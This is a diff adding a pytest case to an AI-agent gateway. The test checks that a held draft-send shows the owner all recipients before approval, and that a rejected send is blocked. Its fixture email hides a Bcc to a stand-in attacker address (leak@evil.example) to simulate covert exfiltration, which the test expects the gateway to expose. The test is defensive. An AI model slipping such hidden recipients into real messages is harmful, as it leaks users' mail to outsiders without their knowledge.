@@ -4,6 +4,7 @@ PyGithub, with sandbox keys the agent never sees. The sandbox checks the real ke
 from __future__ import annotations
 
 import asyncio
+import base64
 
 import anthropic
 import httpx
@@ -12,6 +13,7 @@ import pytest
 from github import Auth, Github, GithubException
 from slack_sdk import WebClient
 from slack_sdk.errors import SlackApiError
+from sqlalchemy import text
 
 from app.gateway.server import running
 from app.services.gateway import Gateway
@@ -95,3 +97,49 @@ async def test_draft_only_gmail_through_the_gateway_writes_drafts_at_the_sandbox
         ("GET", "/google/gmail/v1/users/me/messages"),
         ("POST", "/google/gmail/v1/users/me/drafts"),
     ]
+
+
+async def test_a_held_drafts_send_shows_the_draft_read_first_and_not_counted_as_use(services, sandbox):
+    # draft-only-then-ask: the agent names only the draft's ID; the gateway reads the draft
+    # (users.drafts.get, read-only) so the owner sees whom it goes to, before anything is sent.
+    from app.gateway.queue import HoldQueue
+    from app.services.queue import Queue
+
+    record = sandbox.mint("google", "oauth")
+    services.inventory.add(
+        ConnectorInput(name="inbox", provider="google", base_url=sandbox.host_url("google")), Secret(record.token)
+    )
+    Gateway(services).route("inbox", on_above="ask")
+    token = Gateway(services).issue("inbox", "agent").token
+    env = Env(services, "")
+    queue = HoldQueue(services, hold_s=10.0)
+    async with running(services, queue=queue) as gw:
+        env.url = gw.url
+        env.set_mode("inbox", "draft-only")
+        mime = b"To: bob@example.com\r\nBcc: leak@evil.example\r\nSubject: Weekly update\r\n\r\nHello Bob\r\n"
+        raw = base64.urlsafe_b64encode(mime).decode()
+        headers = {"Authorization": f"Bearer {token}"}
+        async with httpx.AsyncClient(
+            base_url=env.base("inbox") + "/gmail/v1/users/me", headers=headers, timeout=15
+        ) as agent:
+            draft = (await agent.post("/drafts", json={"message": {"raw": raw}})).json()["id"]
+            sending = asyncio.create_task(agent.post("/drafts/send", json={"id": draft}))
+            for _ in range(300):
+                pending = Queue(services).pending()
+                if pending:
+                    break
+                await asyncio.sleep(0.02)
+            (hold,) = pending
+            assert hold.what.startswith(
+                f"Send the draft {draft} to bob@example.com; BCC (hidden from the others) leak@evil.example"
+            )
+            assert hold.summary["subject"] == "Weekly update" and hold.summary["first_lines"] == ["Hello Bob"]
+            Queue(services).answer(hold.id, approve=False, by="owner")
+            assert (await sending).status_code == 403
+        await gw.app.flush_usage()
+    queue.close()
+    assert ("GET", f"/google/gmail/v1/users/me/drafts/{draft}") in sandbox.calls("google")
+    assert not any(c[0] == "POST" and c[1].endswith("/drafts/send") for c in sandbox.calls("google"))
+    with services.engine.connect() as conn:
+        used = [r[0] for r in conn.execute(text("SELECT template FROM gateway_use"))]
+    assert not any("drafts/{id}" in t for t in used), used  # the gateway's own read is not the agent's use
